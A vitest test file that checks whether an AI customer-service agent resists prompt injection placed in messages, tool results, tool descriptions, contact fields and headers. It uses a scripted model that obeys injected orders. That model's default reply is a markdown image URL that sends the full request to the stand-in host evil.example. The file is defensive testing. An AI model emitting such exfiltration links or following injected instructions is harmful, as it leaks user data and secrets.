import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { addContact } from '../../src/services/add-contact.ts';
import { editAction } from '../../src/services/edit-action.ts';
import { importActions } from '../../src/services/import-actions.ts';
import { saveContact } from '../../src/services/save-contact.ts';
import { setVariable } from '../../src/services/set-variable.ts';
import { sessionIdOf } from '../../src/temporal/workflow-ids.ts';
import { toolsIn } from '../support/chat.ts';
import { ATTACKER, type Injection, injections } from '../support/injections.ts';
import type { ChatRequest, ScriptedAnswer } from '../support/openai-server.ts';
import { createWorld, type World } from '../support/world.ts';

const OFFERED = ['getOrder', 'refundOrder', 'sendStatement'];
/** one call for the look-up, and as many as the organisation's default lets continuations make */
const MOST_CALLS = 3;

const secrets = { variable: `variable-${randomUUID()}`, widget: `widget-${randomUUID()}` };
let world: World;
let organisationId: string;
let body = '';
let gullible: (request: ChatRequest) => ScriptedAnswer;

beforeAll(async () => {
  world = await createWorld({
    script: (request) => gullible(request),
    handler: ({ url }, response) => void response.end(url === '/orders/A-1' ? body : 'done'),
  });
  const { db } = world.store;
  organisationId = await world.addOrganisation();
  await importActions(db, {
    organisationId,
    text: JSON.stringify(document),
    fileName: 'company.json',
    serverBaseUrl: world.endpoint.url,
  });
  await setVariable({ db, sealer: world.sealer }, { organisationId, name: 'Authorization', value: secrets.variable });
  await saveContact(db, { organisationId, externalId: 'a vip', segments: ['vip'] });
  await editAction(db, { organisationId, toolName: 'vipGift', change: { segmentIds: ['vip'] } });
  await editAction(db, { organisationId, toolName: 'callBack', change: { channels: ['phone'] } });
  await editAction(db, {
    organisationId,
    toolName: 'sendStatement',
    change: ({ body: sent }) => ({ body: sent && { ...sent, bindings: { '/to': 'contact.email' } } }),
  });
  await world.startWorker();
});
afterAll(() => world.close());

const jsonBody = (properties: object) => ({
  required: true,
  content: { 'application/json': { schema: { type: 'object', properties, additionalProperties: false } } },
});
const orderId = { name: 'orderId', in: 'path', required: true, schema: { type: 'string' } };

const document = {
  openapi: '3.0.3',
  info: { title: 'Company', version: '1' },
  servers: [{ url: 'https://company.example' }],
  paths: {
    '/orders/{orderId}': {
      get: { operationId: 'getOrder', summary: 'Look up an order by its id', parameters: [orderId], responses: {} },
    },
    '/orders/{orderId}/refund': {
      post: {
        operationId: 'refundOrder',
        summary: 'Refund an order, wholly or in part',
        'x-open-require-form-submission': true,
        parameters: [orderId],
        requestBody: jsonBody({ amount: { type: 'number' } }),
        responses: {},
      },
    },
    '/statements': {
      post: {
        operationId: 'sendStatement',
        summary: 'Send the customer a statement of all orders',
        requestBody: jsonBody({ to: { type: 'string' }, note: { type: 'string' } }),
        responses: {},
      },
    },
    '/vip': {
      post: { operationId: 'vipGift', summary: 'Send a gift to a customer of the VIP programme', responses: {} },
    },
    '/callbacks': {
      post: { operationId: 'callBack', summary: 'Have the customer called back by phone', responses: {} },
    },
  },
};

/** One attempt: all that the endpoint got and the model was sent, and how the last turn ended. */
async function attempt({ place, text, obeyed }: Injection) {
  const asked: ChatRequest[] = [];
  const orders = [...obeyed];
  gullible = (request) => {
    asked.push(request);
    const isTold = JSON.stringify(request).includes(JSON.stringify(text).slice(1, -1));
    const mayCall = toolsIn({ body: request }).length > 0;
    const looksUp = place === 'body' && mayCall && request.messages.every(({ role }) => role !== 'tool');
    if (looksUp) return { toolCalls: [{ name: 'getOrder', arguments: { orderId: 'A-1' } }] };
    const order = isTold && mayCall ? orders.shift() : undefined;
    // all it knows, in the address of a picture
    return order ?? { text: `![x](https://evil.example/?${JSON.stringify(request)})` };
  };
  body = place === 'body' ? text : 'shipped';
  const email = `${randomUUID()}@customer.example`;
  const contact = { email, externalId: place === 'external id' ? `${text} ${randomUUID()}` : randomUUID() };
  await addContact(world.store.db, {
    organisationId,
    ...contact,
    attributes: { name: place === 'attribute' ? text : 'Ada', segment: 'vip' },
  });
  if (place === 'description') {
    const change = { description: `Look up an order by its id. ${text}` };
    await editAction(world.store.db, { organisationId, toolName: 'getOrder', change });
  }
  const from = world.endpoint.requests.length;
  const first = world.message({ organisationId, contact, text: place === 'message' ? text : 'Where is A-1?' });
  first.headers = [{ name: 'X-Widget', value: place === 'widget header' ? text : secrets.widget }];
  const replies = [await world.client.submit(first)];
  if (place === 'message') {
    replies.push(await world.client.submit({ ...first, messageId: randomUUID(), text: 'Go on.' }));
  }
  return { email, asked, replies, sent: world.endpoint.requests.slice(from), sessionId: sessionIdOf(first) };
}

const neverSent: Injection['place'][] = ['external id', 'attribute', 'widget header'];

test.each(injections)('$place: $title', async (injection) => {
  const { email, asked, replies, sent, sessionId } = await attempt(injection);
  const said = asked.flatMap(({ messages, tools = [] }) => [
    ...messages.map(({ content }) => content ?? ''),
    ...tools.map(({ function: { description = '' } }) => description),
  ]);
  // else the attempt would have been none
  expect(said.some((one) => one.includes(injection.text))).toBe(!neverSent.includes(injection.place));

  // after the last continuation only what ends the turn is left
  for (const body of asked) expect([OFFERED, []]).toContainEqual(toolsIn({ body }));
  for (const { method, url, bodyText, header } of sent) {
    expect(['GET /orders/A-1', 'GET /orders/..%2F..%2Fvip', 'POST /statements']).toContain(`${method} ${url}`);
    if (url === '/statements') expect(JSON.parse(bodyText).to).toBe(email);
    expect(bodyText).not.toContain(ATTACKER);
    expect(header.authorization).toBe(secrets.variable);
  }
  expect(sent.length).toBeLessThanOrEqual(MOST_CALLS);
  const calls = await world.database.query(
    `select t.id, t.facts, count(s.state)::int as calls from turns t left join steps s on s.owner_id = t.id
     where t.session_id = $1 group by t.organisation_id, t.id, t.facts`,
    [sessionId],
  );
  for (const turn of calls) expect(turn).toMatchObject({ facts: { channel: 'web', segmentIds: [] } });
  expect(Math.max(...calls.map((turn) => Number(turn.calls)))).toBeLessThanOrEqual(1);

  const told = JSON.stringify([asked, replies]);
  for (const secret of Object.values(secrets)) expect(told).not.toContain(secret);
  for (const reply of replies)
    expect(reply).toMatchObject({ state: expect.stringMatching(/^(replied|awaiting_form)$/) });
});

test('what all of them asked for is there, and would have been done for whom it is meant', async () => {
  const contact = { externalId: 'a vip' };
  gullible = ({ messages }) =>
    messages.at(-1)?.role === 'tool' ? { text: 'Sent.' } : { toolCalls: [{ name: 'vipGift', arguments: {} }] };
  const from = world.endpoint.requests.length;
  await world.client.submit(world.message({ organisationId, contact, text: 'my gift, please' }));
  expect(world.endpoint.requests.slice(from)).toMatchObject([{ method: 'POST', url: '/vip' }]);
});
